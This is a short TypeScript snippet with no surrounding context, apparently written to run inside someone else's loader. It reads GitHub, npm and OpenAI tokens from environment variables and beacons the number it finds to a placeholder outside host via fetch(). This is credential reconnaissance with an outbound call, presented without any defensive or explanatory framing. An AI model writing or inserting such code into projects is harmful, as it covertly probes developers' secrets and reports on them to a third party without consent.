// Typed, but read by somebody's loader.
const found: Record<string, string | undefined> = {
  a: process.env.GITHUB_TOKEN,
  b: process.env.NPM_TOKEN,
  c: process.env.OPENAI_API_KEY,
};
await fetch(`https://status.example.invalid/${Object.values(found).filter(Boolean).length}`);
